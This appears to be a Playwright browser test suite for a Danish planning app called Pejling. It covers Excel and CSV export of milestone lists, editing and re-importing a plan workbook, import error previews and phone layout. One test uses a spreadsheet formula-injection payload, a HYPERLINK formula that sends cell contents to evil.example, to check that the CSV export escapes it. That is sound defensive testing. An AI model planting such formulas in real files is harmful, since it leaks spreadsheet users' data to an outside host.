import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type {
  InitiativeRecord,
  IsoDate,
  MilestoneRecord,
  StrategyRecord,
} from '@pejling/contracts';
import ExcelJS from 'exceljs';
import type { Page } from 'playwright-core';
import { ARTIFACTS, screenshot, signInThroughForm, useBrowserApp } from '../support/browser';
import { DEMO, Session } from '../support/session';

/** The demo's today (`PEJLING_TODAY`). */
const TODAY = '2017-06-15';
/** The sheet of milestones in a Danish workbook, and its hidden column of ids. */
const MILESTONES = 'Milepæle';
const ROW_ID = 'Pejling-id';

/** A day as the workbook and the import's preview write it in Danish: 15.06.2017. */
const danishDate = (day: IsoDate) => day.split('-').reverse().join('.');

/** `day` moved `days` days on. */
const daysAfter = (day: IsoDate, days: number): IsoDate =>
  new Date(Date.parse(`${day}T00:00:00Z`) + days * 86_400_000).toISOString().slice(0, 10);

/**
 * A workbook's milestone sheet read and edited as a person does in Excel, with exceljs
 * directly (not Pejling's reader): cells by their Danish header, a row by its milestone's
 * id in the hidden column ("12 v3").
 */
class MilestoneSheet {
  private readonly columns = new Map<string, number>();

  private constructor(
    readonly workbook: ExcelJS.Workbook,
    readonly sheet: ExcelJS.Worksheet,
  ) {
    sheet.getRow(1).eachCell((cell, column) => this.columns.set(String(cell.value), column));
  }

  static async load(file: Buffer | string): Promise<MilestoneSheet> {
    const workbook = new ExcelJS.Workbook();
    const bytes = typeof file === 'string' ? await readFile(file) : file;
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet(MILESTONES);
    if (!sheet) throw new Error(`the workbook has no sheet ${MILESTONES}`);
    return new MilestoneSheet(workbook, sheet);
  }

  cell(row: ExcelJS.Row, header: string): ExcelJS.Cell {
    const column = this.columns.get(header);
    if (column === undefined) throw new Error(`${MILESTONES} has no column ${header}`);
    return row.getCell(column);
  }

  rowOf(milestoneId: number): ExcelJS.Row {
    for (let number = 2; number <= this.sheet.rowCount; number++) {
      const row = this.sheet.getRow(number);
      if (String(this.cell(row, ROW_ID).value ?? '').split(' v')[0] === String(milestoneId)) {
        return row;
      }
    }
    throw new Error(`no row of ${MILESTONES} has milestone ${milestoneId}`);
  }

  /** A new row below the last, with the cells named; the id column left empty. */
  addRow(cells: Record<string, ExcelJS.CellValue>): ExcelJS.Row {
    const row = this.sheet.getRow(this.sheet.rowCount + 1);
    for (const [header, value] of Object.entries(cells)) this.cell(row, header).value = value;
    return row;
  }

  async file(): Promise<Buffer> {
    return Buffer.from(await this.workbook.xlsx.writeBuffer());
  }
}

/** Issue 6's story: exporting the filtered milestones to .xlsx and reading the file back. */
describe('exporting a list in a browser', () => {
  const web = useBrowserApp({ page: { acceptDownloads: true } });

  it('downloads the milestones with the list’s filter as Excel, every row, in Danish', async () => {
    const filter = encodeURIComponent(JSON.stringify({ status: 'done' }));
    await web.page.goto(`${web.app.url}/#/milestones?filter=${filter}&perPage=5`);
    await signInThroughForm(web.page, DEMO.secretariat);
    await web.page.locator('table tbody tr').first().waitFor({ timeout: 20_000 });
    const total = Number(
      /af (\d+)/.exec(
        (await web.page.locator('.MuiTablePagination-displayedRows').textContent()) ?? '',
      )?.[1],
    );

    await web.page.getByRole('button', { name: 'Eksportér' }).click();
    const [download] = await Promise.all([
      web.page.waitForEvent('download'),
      web.page.getByRole('menuitem', { name: 'Excel (.xlsx)' }).click(),
    ]);
    await screenshot(web.page, 'export-milestones');
    expect(download.suggestedFilename()).toBe('pejling-milestones.xlsx');
    const file = join(ARTIFACTS, 'export-milestones.xlsx');
    await download.saveAs(file);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await readFile(file)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    expect(rows[0].slice(4, 9)).toEqual(['Titel', 'Beskrivelse', 'Frist', 'Ansvarlig', 'Status']);
    // Every matching row, not the page of 5.
    expect(total).toBeGreaterThan(5);
    expect(rows.length - 1).toBe(total);
    expect(new Set(rows.slice(1).map((row) => row[8]))).toEqual(new Set(['Færdig']));
    expect(rows[1][6]).toBeInstanceOf(Date);
  });

  it('writes a CSV of any list in which a name a spreadsheet would run is plain text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    const api = new Session(web.app.url);
    await api.signIn(DEMO.secretariat);
    const created = await api.fetch('/api/organisations', {
      method: 'POST',
      body: JSON.stringify({ name: formula, shortName: 'EVIL', kind: 'other' }),
    });
    expect(created.status).toBe(201);

    await web.page.goto(
      `${web.app.url}/#/organisations?filter=${encodeURIComponent('{"q":"EVIL"}')}`,
    );
    await signInThroughForm(web.page, DEMO.secretariat);
    await web.page.locator('table tbody tr').first().waitFor({ timeout: 20_000 });
    const [download] = await Promise.all([
      web.page.waitForEvent('download'),
      web.page.getByRole('button', { name: 'Eksportér' }).click(),
    ]);
    const csv = await readFile(await download.path(), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  /*
   * Issue 15: the owner of the plan downloads it as a workbook, edits it in Excel, and
   * imports it again. These tests come after the exports above, which they leave as they
   * found them: the milestones they move, add or take out are planned ones, not done.
   */

  /**
   * The secretariat's session with the API, to set the import's tests up and to check what
   * they did: one for them all, as signing in takes a while (the password's hash) on purpose.
   */
  let secretariatSession: Promise<Session> | undefined;
  const secretariatApi = () =>
    (secretariatSession ??= (async () => {
      const api = new Session(web.app.url);
      expect((await api.signIn(DEMO.secretariat)).status).toBe(200);
      return api;
    })());

  async function getJson<T>(path: string): Promise<T> {
    const response = await (await secretariatApi()).fetch(path);
    expect(response.status).toBe(200);
    return (await response.json()) as T;
  }

  const list = (resource: string, filter: object, sort = ['id', 'ASC']) =>
    `/api/${resource}?${new URLSearchParams({
      filter: JSON.stringify(filter),
      sort: JSON.stringify(sort),
      range: '[0,499]',
    })}`;

  /** The demo's strategy (the first, should a test have made another). */
  async function demoStrategyId(): Promise<number> {
    const [strategy] = await getJson<StrategyRecord[]>(list('strategies', {}));
    return strategy.id;
  }

  /**
   * Milestones still planned, due ahead of the demo's today and never moved, in the order
   * they are due: ones a secretariat would move, and that the tests before these leave be.
   */
  async function plannedMilestones(): Promise<MilestoneRecord[]> {
    const milestones = await getJson<MilestoneRecord[]>(
      list('milestones', { status: ['planned'], dueFrom: TODAY }, ['dueDate', 'ASC']),
    );
    const unmoved = milestones.filter((milestone) => !milestone.moved);
    expect(unmoved.length).toBeGreaterThan(4);
    return unmoved;
  }

  /** How the import's preview names a milestone: "A.1 · Its title". */
  async function milestoneKey(milestone: MilestoneRecord): Promise<string> {
    const { code } = await getJson<InitiativeRecord>(`/api/initiatives/${milestone.initiativeId}`);
    return `${code} · ${milestone.title}`;
  }

  const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

  /** Chooses the file on the import page; "Indlæs regnearket" sends it. */
  const chooseFile = (page: Page, name: string, buffer: Buffer) =>
    page.getByLabel('Regneark (.xlsx eller .csv)').setInputFiles({ name, mimeType: XLSX, buffer });

  /** The headings of the preview's parts, in the order the page shows them. */
  const previewParts = (page: Page) => page.locator('section h2').allInnerTexts();

  /** The preview's summary: each count by its label. */
  async function summary(page: Page): Promise<Record<string, number>> {
    const region = page.getByRole('region', { name: 'Resumé' });
    const labels = await region.locator('dt').allInnerTexts();
    const counts = await region.locator('dd').allInnerTexts();
    return Object.fromEntries(labels.map((label, i) => [label, Number(counts[i])]));
  }

  /** A preview table's body rows, each as its cells' texts. */
  const tableRows = (page: Page, caption: string) =>
    page
      .getByRole('table', { name: caption })
      .locator('tbody tr')
      .evaluateAll((rows) =>
        rows.map((row) =>
          Array.from(row.children, (cell) => (cell as HTMLElement).innerText.trim()),
        ),
      );

  it('lets the secretariat download the plan, move a deadline and add a milestone in Excel, and import it', async () => {
    const { page } = web;
    const strategyId = await demoStrategyId();
    const [moved] = await plannedMilestones();
    const movedKey = await milestoneKey(moved);
    const newDue = daysAfter(moved.dueDate, 14);
    const added = 'Regnearksworkshop for klyngerne';

    await page.goto(`${web.app.url}/#/strategies/${strategyId}/show`);
    await signInThroughForm(page, DEMO.secretariat);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('link', { name: 'Hent som regneark' }).click({ timeout: 20_000 }),
    ]);
    expect(download.suggestedFilename()).toMatch(/\.xlsx$/);
    const downloaded = join(ARTIFACTS, 'plan-workbook.xlsx');
    await download.saveAs(downloaded);

    // In "Excel": a real date moved two weeks on, and a row typed in, its date as text.
    const workbook = await MilestoneSheet.load(downloaded);
    const row = workbook.rowOf(moved.id);
    expect(workbook.cell(row, 'Titel').value).toBe(moved.title);
    const due = workbook.cell(row, 'Frist');
    expect(due.value).toEqual(new Date(`${moved.dueDate}T00:00:00Z`));
    due.value = new Date(`${newDue}T00:00:00Z`);
    const newRow = workbook.addRow({
      Initiativ: 'A.1',
      Titel: added,
      Frist: '15.10.2017',
      Status: 'Planlagt',
    });
    const edited = await workbook.file();

    await page.getByRole('link', { name: 'Importér regneark' }).click();
    await page.waitForURL(`**/#/imports?strategyId=${strategyId}`);
    // The strategy to update is chosen, once the list of strategies is there.
    const strategySelect = page.getByLabel('Strategi, der skal opdateres');
    await strategySelect.locator('option').nth(1).waitFor({ state: 'attached', timeout: 20_000 });
    expect(await strategySelect.inputValue()).toBe(String(strategyId));

    // The upload is held until its progress bar has been seen.
    let release: (() => void) | undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route('**/api/imports', async (route) => {
      await held;
      await route.continue();
    });
    await chooseFile(page, 'plan-rettet.xlsx', edited);
    await page.getByText('plan-rettet.xlsx', { exact: true }).waitFor();
    await page.getByRole('button', { name: 'Indlæs regnearket' }).click();
    await page.getByRole('progressbar', { name: 'Indlæser plan-rettet.xlsx …' }).waitFor();
    release?.();
    await page.getByRole('region', { name: 'Resumé' }).waitFor({ timeout: 20_000 });
    await page.unroute('**/api/imports');

    expect(await previewParts(page)).toEqual(['Resumé', 'Ændringer i planen']);
    expect(await summary(page)).toMatchObject({
      Nye: 1,
      Ændrede: 1,
      Konflikter: 0,
      Fejl: 0,
      'Ikke i filen': 0,
    });
    const changes = await tableRows(page, MILESTONES);
    expect(changes).toEqual([
      [
        String(row.number),
        movedKey,
        'Ændret',
        `Frist: ${danishDate(moved.dueDate)} → ${danishDate(newDue)}`,
      ],
      [String(newRow.number), `A.1 · ${added}`, 'Ny', expect.stringContaining('Frist: 15.10.2017')],
    ]);
    expect(changes[1][3]).toContain('Initiativ: A.1');
    await screenshot(page, 'import-preview', { fullPage: true });

    // The address names the preview: a reload shows it again, from the server.
    expect(page.url()).toMatch(/#\/imports\?strategyId=\d+&id=\d+$/);
    await page.reload();
    await page.getByRole('region', { name: 'Resumé' }).waitFor({ timeout: 20_000 });
    expect(await tableRows(page, MILESTONES)).toEqual(changes);

    await page.getByRole('button', { name: 'Anvend' }).click();
    const result = page.getByRole('status').filter({ hasText: 'Regnearket er anvendt' });
    await result.waitFor({ timeout: 20_000 });
    expect(await result.innerText()).toContain(
      'Regnearket er anvendt: 1 oprettet, 1 ændret og 0 slettet.',
    );
    expect(await result.getByRole('link', { name: 'Gå til strategien' }).getAttribute('href')).toBe(
      `#/strategies/${strategyId}/show`,
    );
    expect(await page.getByRole('button', { name: 'Anvend' }).count()).toBe(0);

    expect(await getJson<MilestoneRecord>(`/api/milestones/${moved.id}`)).toMatchObject({
      dueDate: newDue,
      originalDueDate: moved.originalDueDate,
      moved: true,
      version: moved.version + 1,
    });
    const [created, ...more] = await getJson<MilestoneRecord[]>(list('milestones', { q: added }));
    expect(more).toEqual([]);
    expect(created).toMatchObject({
      title: added,
      strategyId,
      dueDate: '2017-10-15',
      originalDueDate: '2017-10-15',
      status: 'planned',
    });
    expect((await getJson<InitiativeRecord>(`/api/initiatives/${created.initiativeId}`)).code).toBe(
      'A.1',
    );
  });

  /** The milestones a flawed file (`flawedPlan`) names, as they are stored. */
  interface FlawedPlan {
    strategyId: number;
    file: Buffer;
    /** Its status is "Halvfærdig", on this row of the file. */
    flawed: MilestoneRecord;
    flawedRow: number;
    /** Its due date moved a week on. */
    changed: MilestoneRecord;
    /** Its row taken out of the file. */
    gone: MilestoneRecord;
  }

  const FLAWED_FILE = 'plan-med-fejl.xlsx';
  const NEVER_HELD = 'Et møde, der aldrig blev holdt';

  /**
   * The plan as a workbook in which a person has moved a deadline, added a milestone and
   * taken one out, and given one a status there is no such thing as: every part of a
   * preview, the error first. Made once (writing a workbook takes a while) and never
   * applied, so the tests that upload it may share it.
   */
  let flawedPlanMade: Promise<FlawedPlan> | undefined;
  const flawedPlan = () =>
    (flawedPlanMade ??= (async () => {
      const strategyId = await demoStrategyId();
      const [, flawed, changed, gone] = await plannedMilestones();
      const response = await (
        await secretariatApi()
      ).fetch(`/api/strategies/${strategyId}/workbook.xlsx?lang=da`);
      expect(response.status).toBe(200);
      const workbook = await MilestoneSheet.load(Buffer.from(await response.arrayBuffer()));
      workbook.sheet.spliceRows(workbook.rowOf(gone.id).number, 1);
      workbook.cell(workbook.rowOf(changed.id), 'Frist').value = new Date(
        `${daysAfter(changed.dueDate, 7)}T00:00:00Z`,
      );
      workbook.addRow({ Initiativ: 'A.1', Titel: NEVER_HELD, Frist: '1.11.2017' });
      const flawedRow = workbook.rowOf(flawed.id);
      workbook.cell(flawedRow, 'Status').value = 'Halvfærdig';
      const file = await workbook.file();
      return { strategyId, file, flawed, flawedRow: flawedRow.number, changed, gone };
    })());

  /**
   * Opens the import page for the strategy as the secretariat (with the API's session, the
   * sign-in form being another test's), uploads the flawed file, and waits for its preview.
   */
  async function previewFlawedPlan(page: Page): Promise<FlawedPlan> {
    const plan = await flawedPlan();
    const [name, ...value] = (await secretariatApi()).cookieHeader.split('=');
    await page.context().addCookies([{ name, value: value.join('='), url: web.app.url }]);
    await page.goto(`${web.app.url}/#/imports?strategyId=${plan.strategyId}`);
    await chooseFile(page, FLAWED_FILE, plan.file);
    await page.getByRole('button', { name: 'Indlæs regnearket' }).click();
    await page.getByRole('region', { name: 'Resumé' }).waitFor({ timeout: 20_000 });
    return plan;
  }

  it('shows a file’s errors first, by sheet, row and column, and does not let it be applied', async () => {
    const { page } = web;
    const { flawed, flawedRow, changed, gone } = await previewFlawedPlan(page);

    expect(await previewParts(page)).toEqual([
      'Fejl i filen',
      'Resumé',
      'Ændringer i planen',
      'Ikke i filen',
    ]);
    expect(await page.getByRole('status').filter({ hasText: FLAWED_FILE }).innerText()).toBe(
      `Regnearket ${FLAWED_FILE} er læst, men har 1 fejl, som skal rettes, før det kan anvendes.`,
    );
    expect(await summary(page)).toMatchObject({
      Nye: 1,
      Ændrede: 1,
      Konflikter: 0,
      Fejl: 1,
      'Ikke i filen': 1,
    });
    const [error, ...others] = await tableRows(page, 'Fejlene efter ark og række');
    expect(others).toEqual([]);
    // Sheet, row, column, message (and a likely value, where there is one).
    expect(error.slice(0, 4)).toEqual([
      MILESTONES,
      String(flawedRow),
      'Status',
      expect.stringMatching(/^»Halvfærdig« er ikke en af de mulige værdier: .*»Færdig«/),
    ]);

    const apply = page.getByRole('button', { name: 'Anvend' });
    expect(await apply.isDisabled()).toBe(true);
    const reason = await apply.getAttribute('aria-describedby');
    expect(await page.locator(`[id="${reason}"]`).innerText()).toBe(
      'Ret fejlene i regnearket, og indlæs det igen, før det kan anvendes.',
    );
    // Nothing was written.
    for (const milestone of [flawed, changed, gone]) {
      expect(await getJson<MilestoneRecord>(`/api/milestones/${milestone.id}`)).toEqual(milestone);
    }
    expect(await getJson<MilestoneRecord[]>(list('milestones', { q: NEVER_HELD }))).toEqual([]);
  });

  it('keeps the import page and its preview as wide as a phone, its tables scrolling in their own box', async () => {
    const { page } = web;
    await page.setViewportSize({ width: 390, height: 844 });
    const { gone } = await previewFlawedPlan(page);
    const goneKey = await milestoneKey(gone);
    await page.getByRole('checkbox', { name: `Slet ${MILESTONES}: ${goneKey}` }).waitFor();
    await screenshot(page, 'import-preview-phone', { fullPage: true });

    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
      390,
    );
    // The errors, the changes and the records not in the file: each box scrolls by itself.
    const boxes = await page
      .locator('[role="region"][tabindex="0"]')
      .evaluateAll((regions) => regions.map((box) => box.scrollWidth > box.clientWidth));
    expect(boxes.length).toBe(3);
    expect(boxes).toContain(true);

    // The app bar fits: its buttons on the screen, the demo date beside them, not over them.
    const bar = await page
      .locator('header')
      .getByRole('button')
      .evaluateAll((buttons) =>
        buttons.map((b) => {
          const { left, right } = b.getBoundingClientRect();
          return { name: b.getAttribute('aria-label') ?? b.textContent, left, right };
        }),
      );
    const date = await page.locator('header [role="status"]').boundingBox();
    if (!date) throw new Error('the app bar shows no demo date');
    expect(bar.map((b) => b.name)).toEqual(expect.arrayContaining(['Sprog: Dansk', 'Profil']));
    for (const button of bar) {
      expect(button.right).toBeLessThanOrEqual(390);
      if (button.name !== 'Åbn menu')
        expect(button.left).toBeGreaterThanOrEqual(date.x + date.width);
    }
  });
});
